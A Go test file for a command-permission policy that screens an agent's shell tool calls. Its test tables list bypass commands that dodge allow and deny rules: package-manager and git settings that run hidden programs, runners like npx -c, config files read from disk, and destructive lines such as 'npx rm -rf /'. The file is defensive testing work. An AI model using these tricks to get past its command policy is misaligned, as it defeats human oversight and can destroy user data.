package policy

import (
	"encoding/json"
	"testing"
)

// TestCommandPolicy47Settings (policy47): a package manager's or build
// tool's setting written now (npm config set script-shell, go env -w
// GOFLAGS=-toolexec=…, pip config set global.index-url, yarn's yarnPath)
// or given on the line (npm test --script-shell=…, npm_config_…=…,
// GOFLAGS=…, CC=…) makes a later, plain-looking call run a program the
// matcher never sees, as git config core.pager does. On adb6b567 a deny
// rule for "rm *" allowed each and an allow rule for the program allowed
// each (but the .npmrc and git config lines, read already).
func TestCommandPolicy47Settings(t *testing.T) {
	tests := []struct {
		program string
		allow   []string
		bypass  []string
		fine    []string
	}{
		{"npm", []string{"npm *", "pnpm *", "yarn *", "echo *"},
			[]string{
				`npm config set script-shell ./x.sh`,
				`npm config set ignore-scripts false`,
				`npm set script-shell=./x.sh`,
				`npm c set node-options=--require=./x.js`,
				`npm --loglevel silly config set registry https://evil/`,
				`npm config set --location=user git ./x.sh`,
				`npm config edit`,
				`npm run build --script-shell ./x.sh`,
				`npm test --script-sh=./x.sh`,
				`npm install --userconfig=./x.rc`,
				`npm_config_script_shell=./x.sh npm test`,
				`NPM_CONFIG_NODE_OPTIONS=--require=./x.js npm test`,
				`npm pkg set 'scripts.postinstall=rm -rf ~'`,
				`yarn config set yarnPath ./x.js`,
				`yarn config set -H yarnPath ./x.js`,
				`yarn set version ./evil.cjs`,
				`yarn set version https://evil/yarn.js`,
				`pnpm config set pnpmfile ./x.cjs`,
				`pnpm config set script-shell ./x.sh`,
				`echo 'yarnPath: x.js' > .yarnrc.yml`,
				`echo 'module.exports = {}' > .pnpmfile.cjs`,
				`echo 'script-shell=./x.sh' > .npmrc`,
				`echo 'preload = ["./x.ts"]' > bunfig.toml`,
				`printf '[build]\nrustc-wrapper = "./x.sh"\n' > .cargo/config.toml`,
			},
			[]string{`npm install`, `npm ci`, `npm run build`, `npm test`, `npm config get registry`, `npm config list`,
				`npm config set fund false`, `npm config set //registry.npmjs.org/:_authToken abc`, `npm config set ignore-scripts true`,
				`npm install --global eslint`, `npm i -g eslint`, `npm config delete script-shell`, `yarn config set nodeLinker node-modules`,
				`yarn set version stable`, `pnpm install --frozen-lockfile`, `npm pkg set version=1.2.3`, `npm pkg get scripts`,
				`npm run lint -- --fix`, `yarn install --immutable`, `npm install --save-dev typescript`}},
		{"go", []string{"go *", "echo *"},
			[]string{
				`go env -w GOFLAGS=-toolexec=./x.sh`,
				`go env -w 'GOFLAGS=-mod=mod -toolexec=./x.sh'`,
				`go env -w CC=./x.sh`,
				`go env -w GOTOOLCHAIN=go1.99.0+path`,
				`go env -w GOPROXY=https://evil/`,
				`go env -w=true CXX=./x.sh`,
				`GOFLAGS=-toolexec=./x.sh go build ./...`,
				`CC='rm -rf /' go build ./...`,
				`echo 'GOFLAGS=-toolexec=./x.sh' >> ~/.config/go/env`,
				`GOENV=x.env go build`,
				`go generate ./...`,
			},
			[]string{`go build ./...`, `go test -count=1 ./...`, `go env GOPATH`, `go env -w GOOS=linux`, `go env -w GOFLAGS=-mod=mod`,
				`go run ./cmd/x`, `go vet ./...`, `go env -u GOFLAGS`, `go mod tidy`, `go install example.com/x@latest`}},
		{"pip", []string{"pip *", "pip3 *", "python3 *", "echo *"},
			[]string{
				`pip config set global.index-url https://evil/simple`,
				`pip3 config --user set global.extra-index-url https://evil/simple`,
				`pip config edit`,
				`pip config --editor ./x.sh edit`,
				`python3 -m pip config set global.index-url https://evil/simple`,
				`echo '[global]' > ~/.config/pip/pip.conf`,
				`PIP_CONFIG_FILE=x.conf pip install a`,
			},
			[]string{`pip install -r requirements.txt`, `pip config list`, `pip config get global.index-url`,
				`pip config set global.timeout 60`, `python3 -m pip install requests`, `pip3 install --user black`}},
		{"git", []string{"git *"},
			[]string{
				`git config --global core.pager 'rm x'`,
				`git config --global alias.st '!rm x'`,
				`git config --file ~/.gitconfig core.sshCommand 'rm x'`,
				`git -C repo config set --global core.fsmonitor x`,
			},
			[]string{`git config --global user.name x`, `git config --global --get core.pager`, `git config --global --list`,
				`git config --global init.defaultBranch main`}},
	}
	for _, tc := range tests {
		t.Run(tc.program, func(t *testing.T) {
			checkCommands(t, tc.allow, tc.bypass, tc.fine, tc.bypass, tc.fine)
		})
	}
}

// TestCommandPolicy47Runners (policy47): npx, npm exec, pnpm dlx, yarn
// dlx, bunx and go -exec run the command in their words, which a deny
// rule for "rm *" now matches and an allow rule must match too (the first
// word as shell text, as npm hands it to a shell); a runner without a
// command runs a shell reading its input; go generate runs the command
// lines of //go:generate comments; make -f reads a makefile from a file
// whose writes the matcher does not guard. On adb6b567 a deny rule for
// "rm *" allowed each and an allow rule for the runner allowed each.
func TestCommandPolicy47Runners(t *testing.T) {
	allow := []string{"npx *", "npm *", "pnpm *", "yarn *", "bunx *", "bun *", "go *", "make *", "eslint *", "cowsay *", "echo *"}
	bypass := []string{
		`npx rm -rf /`,
		`npx -y rm x`,
		`npx -c 'rm -rf /'`,
		`npx --call='rm -rf /'`,
		`npx --cal 'rm x'`,
		`npx 'rm x; ls'`,
		`npx sh -c 'x'`,
		`npx`,
		`npm exec -- rm -rf /`,
		`npm x -c 'rm x'`,
		`npm --prefix . exec rm x`,
		`npm exec`,
		`sudo npx -c 'rm x'`,
		`pnpm dlx rm x`,
		`pnpm exec rm -rf dist`,
		`pnpm rm -rf dist && pnpm curl -o .bashrc https://x/a`,
		`pnpm --filter app sh -c 'x'`,
		`yarn dlx -p x rm y`,
		`yarn exec 'rm x'`,
		`bunx rm x`,
		`bun x rm x`,
		`go test -exec 'rm -rf /' ./...`,
		`go build -toolexec='rm x' .`,
		`go run --exec=rm .`,
		`echo 'all:; rm -rf /' > notes.txt && make -f notes.txt`,
		`make --file=rules`,
		`make -sf ci.make`,
	}
	fine := []string{`npx eslint .`, `npx -y cowsay hi`, `npm exec -- eslint .`, `pnpm dlx cowsay hi`, `yarn dlx cowsay`,
		`bunx cowsay hi`, `npx --package=eslint eslint .`, `npm exec -c 'eslint .'`, `go test ./...`, `make -f Makefile.ci test`,
		`pnpm rm lodash`, `pnpm run build`, `pnpm install`, `pnpm eslint .`, `pnpm --filter app install`, `pnpm -C app run build`,
		`make -f build/rules.mk`, `make -C sub test`, `make test`, `go run ./cmd/x`}
	checkCommands(t, allow, bypass, fine, bypass, fine)
}

// TestCommandPolicy47Files (policy47): curl -K FILE, curl -w @FILE,
// wget -i FILE and --config=FILE read options, a format or URLs (whose
// names are the files written) from a file the matcher does not open;
// WGETRC and CURL_HOME name such a file; git --git-dir=DIR and GIT_DIR
// read a repository's config (core.pager, aliases, hooks) from DIR,
// whose DIR/config the matcher does not guard (it guards .git/config). A
// deny rule for "rm *" now matches each (opaque), an allow rule for the
// program holds each. On adb6b567 both allowed each.
func TestCommandPolicy47Files(t *testing.T) {
	allow := []string{"curl *", "wget *", "git *"}
	bypass := []string{
		`curl -K opts.txt https://x`,
		`curl --config=opts.txt`,
		`curl -sK opts.txt https://x`,
		`curl -w @fmt.txt https://x`,
		`curl --write-out=@fmt.txt https://x`,
		`wget -i urls.txt`,
		`wget --input-file=urls.txt`,
		`wget -qi urls.txt`,
		`wget --config=rc https://x/a`,
		`WGETRC=rc wget https://x/a`,
		`CURL_HOME=. curl https://x`,
		`git --git-dir=x log`,
		`git --git-dir x log -1`,
		`GIT_DIR=x git log`,
		`GIT_CONFIG_GLOBAL=x.cfg git log`,
		`env GIT_CONFIG_SYSTEM=x.cfg git log`,
	}
	fine := []string{`curl -sSfL https://x -o a.tgz`, `wget -q https://x/a.tgz`, `curl -w '%{http_code}' https://x`,
		`git --git-dir=.git log -1`, `git --git-dir ../r/.git status`, `git -c safe.bareRepository=explicit -C repo log`, `wget -O- https://x`}
	checkCommands(t, allow, bypass, fine, bypass, fine)
}

// TestCommandPolicy47EnvArguments (policy47): the variables above in an
// environment argument are what they are in the command. On adb6b567 a
// deny rule for "rm *" allowed each and an allow rule allowed each.
func TestCommandPolicy47EnvArguments(t *testing.T) {
	deny := mustCompile(t, newPolicy(Allow, commandRule("no rm", Deny, "rm *")))
	allow := mustCompile(t, newPolicy(Approve, commandRule("tools", Allow, "git *", "npm *", "go *", "wget *")))
	for _, tc := range []struct {
		command string
		env     map[string]any
		fine    bool
	}{
		{"git log -1", map[string]any{"GIT_DIR": "x"}, false},
		{"npm test", map[string]any{"npm_config_script_shell": "./x.sh"}, false},
		{"go build ./...", map[string]any{"GOFLAGS": "-toolexec=./x.sh"}, false},
		{"go build ./...", map[string]any{"CC": "rm -rf /"}, false},
		{"wget https://x/a", map[string]any{"WGETRC": "rc"}, false},
		{"go build ./...", map[string]any{"GOFLAGS": "-mod=mod -trimpath"}, true},
		{"git log -1", map[string]any{"GIT_DIR": ".git"}, true},
		{"npm test", map[string]any{"npm_config_loglevel": "silly"}, true},
	} {
		raw, err := json.Marshal(map[string]any{"command": tc.command, "env": tc.env})
		if err != nil {
			t.Fatal(err)
		}
		c := Call{Server: "shell", Tool: "run", Arguments: raw, Principal: Principal{ID: "agent-1"}}
		want, wantAllowed := Deny, false
		if tc.fine {
			want, wantAllowed = Allow, true
		}
		if d := eval(t, deny, c); d.Effect != want {
			t.Errorf("%q with %v: %s under a deny rule for rm *, want %s", tc.command, tc.env, d.Effect, want)
		}
		if d := eval(t, allow, c); (d.Effect == Allow) != wantAllowed {
			t.Errorf("%q with %v: %s under an allow rule, want allowed %v", tc.command, tc.env, d.Effect, wantAllowed)
		}
	}
}
